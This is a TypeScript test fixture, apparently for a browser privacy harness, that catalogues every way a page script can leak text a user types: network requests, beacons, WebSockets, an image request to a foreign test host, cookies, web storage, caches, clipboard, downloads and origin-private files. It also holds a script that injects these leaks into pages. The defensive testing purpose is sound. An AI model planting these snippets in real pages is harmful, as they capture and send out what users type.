/** Every way in which a page could betray what is typed, one after the other: the harness must catch each. */
export const leaks: Readonly<Record<string, string>> = {
  // The place where it must be found, as `watch.ts` names it → what a page script does with `typed`.
  'request address': 'fetch("/?q=" + encodeURIComponent(typed))',
  'request headers': 'fetch("/", { headers: { "x-note": btoa(typed) } })',
  'request body (POST /api/events)': 'fetch("/api/events", { method: "POST", body: JSON.stringify({ typed }) })',
  'request body (POST /api/join)':
    'navigator.sendBeacon("/api/join", [...typed].map(c => c.charCodeAt(0).toString(16)).join(""))',
  websocket:
    'new Promise(done => { const s = new WebSocket("ws://" + location.host + "/prise"); s.onopen = () => done(s.send(typed)); })',
  'foreign origin':
    'new Promise(done => { const i = new Image(); i.onerror = done; i.src = "http://ailleurs.test/" + typed; })',
  cookies: 'document.cookie = "note=" + typed',
  localStorage: 'localStorage.setItem("note", typed)',
  sessionStorage: 'sessionStorage.setItem("note", typed)',
  indexedDB:
    'new Promise(done => { const o = indexedDB.open("note", 1); o.onupgradeneeded = () => o.result.createObjectStore("n").put(new TextEncoder().encode(typed), 1); o.onsuccess = () => done(o.result.close()); })',
  caches: 'caches.open("note").then(cache => cache.put("/note", new Response(typed)))',
  history: 'history.replaceState({ typed }, "")',
  title: 'document.title = typed',
  console: 'console.log(typed)',
  'window.name': 'window.name = typed',
  clipboard: 'navigator.clipboard.writeText(typed)',
  downloads: '(a => { a.href = "data:,x"; a.download = typed; a.click(); })(document.createElement("a"))',
  'download contents':
    '(a => { a.href = URL.createObjectURL(new Blob(["note: ", typed])); a.download = "note.txt"; a.click(); })(document.createElement("a"))',
  // A private file of the origin: nothing but the folder shows it.
  profile:
    'navigator.storage.getDirectory().then(async root => { const file = await root.getFileHandle("note", { create: true }); const w = await file.createWritable(); await w.write(typed); await w.close(); })',
};

/** What Enter does in a field with a name, in a form that may be sent: the address, the history and the browser's memory of forms. */
export const formLeak = `
  const form = document.createElement('form');
  form.action = '/';
  form.innerHTML = '<input name="q"><button>ok</button>';
  document.body.prepend(form);
`;

/** Put in every page: `leaking` says which one is open, `leaked` is resolved once it has let something out. */
export const leakyScript = `
  window.leaking = null;
  const ways = { ${Object.entries(leaks)
    .map(([place, way]) => `${JSON.stringify(place)}: typed => (${way})`)
    .join(',\n')} };
  addEventListener('change', ({ target }) => {
    window.leaked = window.leaking && ways[window.leaking](target.value);
  }, true);
`;
